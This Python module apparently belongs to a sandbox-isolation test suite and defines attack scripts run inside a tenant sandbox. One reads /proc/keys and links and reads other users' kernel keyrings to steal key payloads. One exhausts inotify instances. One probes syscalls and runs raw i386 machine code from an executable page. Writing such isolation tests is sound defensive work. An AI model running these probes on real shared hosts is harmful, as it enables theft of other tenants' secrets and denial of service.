"""Programs the identity attacks run inside a sandbox (python3 of the builtin template).

Each is a plain script, written into the sandbox with the file API and run with exec, so
what it does is exactly what a tenant's own program could do.
"""

from __future__ import annotations

# Kernel keys: ``add`` puts a key in the caller's user keyring; ``steal`` reads /proc/keys,
# links every user keyring it can see into its own session keyring (which makes it their
# possessor) and reads every key's payload it can reach. Prints one JSON object.
KEYS = r'''
import ctypes, json, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
SYS_add_key, SYS_keyctl = 248, 250
USER_KEYRING, SESSION_KEYRING = -4, -3
KEYCTL_LINK, KEYCTL_READ = 8, 11
out = {}
def err():
    return os.strerror(ctypes.get_errno())
if sys.argv[1] == "add":
    payload = sys.argv[3].encode()
    r = libc.syscall(SYS_add_key, b"user", sys.argv[2].encode(), payload, len(payload),
                     ctypes.c_long(USER_KEYRING))
    out["add_key"] = "ok" if r >= 0 else err()
else:
    try:
        keys = open("/proc/keys").read()
    except OSError as exc:
        keys = ""
        out["proc_keys_error"] = str(exc)
    out["proc_keys"] = keys
    out["read"] = {}
    for line in keys.splitlines():
        serial, kind = line.split()[0], line.split()[7]
        if kind == "keyring" and "_uid." in line:
            libc.syscall(SYS_keyctl, KEYCTL_LINK, int(serial, 16), ctypes.c_long(SESSION_KEYRING))
    for line in keys.splitlines():
        serial, kind = line.split()[0], line.split()[7]
        if kind == "user":
            buf = ctypes.create_string_buffer(4096)
            r = libc.syscall(SYS_keyctl, KEYCTL_READ, int(serial, 16), buf, 4096)
            out["read"][line] = buf.raw[:r].decode(errors="replace") if r >= 0 else err()
print(json.dumps(out))
'''

# inotify instances are counted per host uid (fs.inotify.max_user_instances). ``hold``
# takes every instance it can get and keeps them (writing how many, and why it stopped, to
# /tmp/held); ``one`` takes a single instance and prints the result.
INOTIFY = r'''
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
if sys.argv[1] == "hold":
    fds = []
    while True:
        fd = libc.inotify_init()
        if fd < 0:
            break
        fds.append(fd)
    with open("/tmp/held.tmp", "w") as fh:
        fh.write(f"{len(fds)} {os.strerror(ctypes.get_errno())}")
    os.rename("/tmp/held.tmp", "/tmp/held")
    time.sleep(600)
else:
    fd = libc.inotify_init()
    print("ok" if fd >= 0 else os.strerror(ctypes.get_errno()))
'''

# Calls one system call per line of the JSON table in argv[1] ({name: [nr, args...]}; a
# string argument is passed as a C string) and prints {name: errno, 0 for success}. Also
# the 32-bit entry points: getpid through ``int $0x80`` (i386) and with the x32 bit set.
SYSCALLS = r'''
import ctypes, json, mmap, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def call(nr, *args):
    conv = [a.encode() if isinstance(a, str) else ctypes.c_long(a) for a in args]
    r = libc.syscall(ctypes.c_long(nr), *conv)
    if r == 0 and os.getpid() != PID:  # a clone that went through: the child leaves
        os._exit(0)
    return ctypes.get_errno() if r < 0 else 0
PID = os.getpid()
table = json.loads(sys.argv[1])
out = {name: call(nr, *args) for name, (nr, *args) in table.items()}
# i386: mov eax, 20 (getpid); int 0x80; ret. The kernel answers -errno in eax.
code = bytes([0xB8, 20, 0, 0, 0, 0xCD, 0x80, 0xC3])
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(code)
getpid32 = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
r = getpid32()
out["i386:getpid"] = -r if r < 0 else 0
out["x32:getpid"] = call(0x40000000 | 39)
print(json.dumps(out))
'''
